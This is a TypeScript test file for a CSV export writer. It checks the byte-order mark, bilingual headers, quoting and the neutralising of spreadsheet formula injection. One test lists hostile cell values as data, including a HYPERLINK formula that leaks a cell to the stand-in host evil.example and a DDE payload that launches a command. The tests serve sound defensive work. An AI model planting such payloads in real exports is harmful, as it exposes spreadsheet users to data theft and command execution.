/**
 * The CSV writer (functions/commons/files/csv.ts) read back by an independent RFC 4180 parser
 * (csv-parse): byte-order mark, headers in each language, quoting, and no cell a spreadsheet would
 * run as a formula, on hostile and on seeded random text.
 */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { BYTE_ORDER_MARK, csvCell, csvChunks, type CsvColumn } from '../../functions/commons/files/csv.js';

interface Row {
  name: string;
  amount: string;
}
const COLUMNS: CsvColumn<Row>[] = [
  { header: { en: 'Organisation', 'zh-CN': '申报单位' }, value: (row) => row.name },
  { header: { en: 'Amount (yuan)', 'zh-CN': '金额（元）' }, value: (row) => row.amount },
];

async function* pagesOf<T>(...pages: T[][]) {
  for (const page of pages) yield page;
}

async function csvOf(rows: Row[][], language: 'en' | 'zh-CN' = 'en'): Promise<string> {
  let text = '';
  for await (const chunk of csvChunks(COLUMNS, pagesOf(...rows), language)) text += chunk;
  return text;
}

const cellsOf = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false });

const FORMULA_START = /^[=+\-@\t\r]/;

describe('the CSV writer', () => {
  it('starts with a byte-order mark and the headers in the language asked for', async () => {
    const rows = [[{ name: '临港新片区某公司', amount: '1000000.00' }], [], [{ name: 'B, "quoted"', amount: '0.01' }]];
    const en = await csvOf(rows);
    const zh = await csvOf(rows, 'zh-CN');
    expect(Buffer.from(zh, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(en.startsWith(BYTE_ORDER_MARK)).toBe(true);
    expect(cellsOf(en)).toEqual([
      ['Organisation', 'Amount (yuan)'],
      ['临港新片区某公司', '1000000.00'],
      ['B, "quoted"', '0.01'],
    ]);
    expect(cellsOf(zh)[0]).toEqual(['申报单位', '金额（元）']);
    expect(en.endsWith('\r\n')).toBe(true);
  });

  it('neutralises every cell a spreadsheet would read as a formula, and leaves plain numbers alone', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
    ];
    const text = await csvOf([hostile.map((name) => ({ name, amount: '-120.50' }))]);
    const cells = cellsOf(text).slice(1);
    expect(cells.map(([name]) => name)).toEqual(hostile.map((name) => `'${name}`));
    expect(cells.map(([, amount]) => amount)).toEqual(hostile.map(() => '-120.50'));
  });

  it('writes any text so that it reads back as itself (or neutralised), never as a formula', () => {
    const seed = Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31);
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 8 }), (texts) => {
        // A last column of its own, so that a line of one empty cell is not read as a blank line.
        const [cells] = parse([...texts.map(csvCell), 'end'].join(',') + '\r\n') as [string[]];
        expect(cells).toHaveLength(texts.length + 1);
        cells.slice(0, -1).forEach((cell, i) => {
          const text = texts[i]!;
          const neutralised = FORMULA_START.test(text) && !/^[+-]?\d+(\.\d+)?$/.test(text);
          expect(cell).toBe(neutralised ? `'${text}` : text);
          expect(FORMULA_START.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)).toBe(false);
        });
      }),
      { seed, numRuns: 200 },
    );
  });
});
